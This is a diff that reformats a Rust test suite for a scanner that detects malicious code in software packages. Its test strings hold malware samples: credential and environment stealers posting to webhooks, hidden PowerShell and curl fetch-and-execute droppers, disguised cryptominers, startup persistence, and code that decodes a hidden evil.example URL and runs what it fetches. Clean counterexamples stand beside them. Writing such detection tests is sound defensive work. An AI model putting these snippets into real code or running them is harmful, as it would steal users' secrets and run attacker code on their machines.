@@ -52,16 +52,8 @@ requests.post("https://discord.com/api/webhooks/1234/abcd", json=data)
 "#;
     let f = malware("src/pkg/util.py", stealer).expect("stealer");
     assert_eq!(f.severity, Severity::Critical, "{f:?}");
-    assert!(
-        f.detail.contains("~/.aws/credentials (line 4)"),
-        "{}",
-        f.detail
-    );
-    assert!(
-        f.detail.contains("a Discord webhook (line 7)"),
-        "{}",
-        f.detail
-    );
+    assert!(f.detail.contains("~/.aws/credentials (line 4)"), "{}", f.detail);
+    assert!(f.detail.contains("a Discord webhook (line 7)"), "{}", f.detail);
 
     // An AWS CLI helper reads the credentials file and calls AWS: not malware.
     let helper = r#"import configparser, os, requests
@@ -114,8 +106,7 @@ requests.post("https://discord.com/api/webhooks/111/xyz", json=info)
     let f = malware("pkg/__init__.py", recon).expect("recon");
     assert_eq!(f.severity, Severity::Critical);
     assert!(f.detail.contains("user name"), "{}", f.detail);
-    let user_only =
-        "import getpass, requests\nrequests.post('https://abc.oast.fun', data=getpass.getuser())\n";
+    let user_only = "import getpass, requests\nrequests.post('https://abc.oast.fun', data=getpass.getuser())\n";
     assert_eq!(sev("pkg/a.py", user_only), Some(Severity::High));
 }
 
@@ -126,7 +117,8 @@ fn env_harvesting() {
     let py = "import os, requests\nrequests.post('https://eo1x.m.pipedream.net', json=dict(os.environ))\n";
     assert_eq!(sev("pkg/x.py", py), Some(Severity::Critical));
     // The whole environment to an ordinary API, or a child process's env: nothing.
-    let debug = "await fetch('https://api.example-corp.com/debug', { method: 'POST', body: JSON.stringify(process.env) });\n";
+    let debug =
+        "await fetch('https://api.example-corp.com/debug', { method: 'POST', body: JSON.stringify(process.env) });\n";
     clean("src/debug.js", debug);
     let child = "const hook = 'https://discord.com/api/webhooks/1/a';\nspawn('node', ['x.js'], { env: { ...process.env, FOO: '1' } });\nconst u = process.env.USER;\n";
     clean("src/run.js", child);
@@ -196,9 +188,11 @@ chmod +x "$HOME/.tool/bin/tool"
 fn encoded_powershell() {
     let enc = "import subprocess\nsubprocess.Popen('powershell -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', shell=True)\n";
     assert_eq!(sev("pkg/a.py", enc), Some(Severity::Critical));
-    let hidden = "Start-Process powershell -WindowStyle Hidden -ArgumentList \"-c iwr https://x.example/p.ps1 | iex\"\n";
+    let hidden =
+        "Start-Process powershell -WindowStyle Hidden -ArgumentList \"-c iwr https://x.example/p.ps1 | iex\"\n";
     assert_eq!(sev("tools/run.ps1", hidden), Some(Severity::Critical));
-    let build = "powershell -NoProfile -Command \"Get-ChildItem -Recurse | Remove-Item\"\nopenssl ec -in key.pem -ec -noout\n";
+    let build =
+        "powershell -NoProfile -Command \"Get-ChildItem -Recurse | Remove-Item\"\nopenssl ec -in key.pem -ec -noout\n";
     clean("scripts/clean.ps1", build);
 }
 
@@ -257,8 +251,7 @@ def ask():
     return re.fullmatch(r"0x[a-fA-F0-9]{40}", to)
 "#;
     clean("wallet/cli.py", cli);
-    let copy_only =
-        "const copy = () => navigator.clipboard.writeText(address); // 0x[a-fA-F0-9]{40}\n";
+    let copy_only = "const copy = () => navigator.clipboard.writeText(address); // 0x[a-fA-F0-9]{40}\n";
     clean("src/Copy.jsx", copy_only);
 }
 
@@ -267,7 +260,8 @@ fn miners() {
     let m = "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', W, '--donate-level', '1'])\n";
     assert_eq!(sev("pkg/m.py", m), Some(Severity::High));
     assert_eq!(sev("setup.py", m), Some(Severity::Critical));
-    let dash = "POOLS = ['nanopool.org', '2miners.com', 'supportxmr.com']\ndef show(stats):\n    return stats['hashrate']\n";
+    let dash =
+        "POOLS = ['nanopool.org', '2miners.com', 'supportxmr.com']\ndef show(stats):\n    return stats['hashrate']\n";
     clean("dashboard/pools.py", dash);
 }
 
@@ -280,7 +274,9 @@ winreg.SetValueEx(k, "svc", 0, winreg.REG_SZ, os.environ["APPDATA"] + "\\svc.exe
 "#;
     let found = scan("pkg/p.py", p);
     assert!(
-        found.iter().any(|f| f.title == "Installs itself to run at startup" && f.severity == Severity::High),
+        found
+            .iter()
+            .any(|f| f.title == "Installs itself to run at startup" && f.severity == Severity::High),
         "{found:#?}"
     );
     let backup = "#!/bin/sh\n(crontab -l; echo \"0 3 * * * /usr/local/bin/backup.sh\") | crontab -\ntar czf /tmp/b.tgz /srv && curl -T /tmp/b.tgz https://s3.example.com/bucket/\n";
@@ -316,7 +312,8 @@ fn dns_exfiltration() {
 
 #[test]
 fn pyarmor() {
-    let p = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59')\n";
+    let p =
+        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59')\n";
     assert_eq!(sev("pkg/__init__.py", p), Some(Severity::High));
     assert_eq!(sev("pkg/sub/impl.py", p), Some(Severity::Medium));
     clean(
@@ -398,11 +395,7 @@ if os.sys.argv[-1] == "publish":
     os.system("python setup.py sdist upload")
 setup(name="pkg", version=version, url="https://github.com/acme/pkg", install_requires=["requests"])
 "#;
-    assert!(
-        scan("setup.py", legit).is_empty(),
-        "{:#?}",
-        scan("setup.py", legit)
-    );
+    assert!(scan("setup.py", legit).is_empty(), "{:#?}", scan("setup.py", legit));
     // Code inside a function runs only when called.
     let in_def = "import subprocess\nfrom setuptools import setup\ndef build_docs():\n    subprocess.call('curl https://x.example/d.sh | sh', shell=True)\nsetup(name='x')\n";
     assert!(scan("setup.py", in_def)
@@ -429,10 +422,7 @@ fn disguised_miner() {
     let sh = "#!/bin/bash\nDIR=$HOME/.cache/.sysupdate\ncurl -sL https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6-linux-static-x64.tar.gz | tar xz\nmv xmrig sysupdate\nnohup ./sysupdate -c config.json --background >/dev/null 2>&1 &\n";
     assert_eq!(sev("setup.sh", sh), Some(Severity::Critical));
     let renamed_flags = "curl http://pool.evil.example/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls -o pool.evil.example:443 -u 4vGM --donate-level=1 --background &>/dev/null &\n";
-    assert_eq!(
-        sev("preinstall.sh", renamed_flags),
-        Some(Severity::Critical)
-    );
+    assert_eq!(sev("preinstall.sh", renamed_flags), Some(Severity::Critical));
     // A miner-setup script that says what it runs, in the foreground: not disguised.
     let honest = "#!/bin/bash\ncurl -sL https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6-linux-static-x64.tar.gz | tar xz\n./xmrig -o stratum+tcp://pool.example.com:3333 -u \"$WALLET\" --donate-level=1\n";
     assert_ne!(sev("scripts/mine.sh", honest), Some(Severity::Critical));
@@ -451,10 +441,7 @@ fn batch_dropper() {
 #[test]
 fn remote_function_from_a_hidden_url() {
     let js = "const axios = require('axios');\nconst u = 'aHR0cHM6Ly9hcGkuZXZpbC5leGFtcGxlL2ljb25z';\n(async () => {\n  const res = await axios.get(atob(u));\n  const h = new Function.constructor('require', res.data.cookie);\n  h(require);\n})();\n";
-    assert_eq!(
-        sev("server/middlewares/errorHandler.js", js),
-        Some(Severity::Critical)
-    );
+    assert_eq!(sev("server/middlewares/errorHandler.js", js), Some(Severity::Critical));
     // The address in the open, the response parsed, not run.
     clean("server/prices.js", "const axios = require('axios');\n(async () => {\n  const res = await axios.get(process.env.PRICE_API);\n  const prices = JSON.parse(res.data);\n  console.log(prices);\n})();\n");
 }
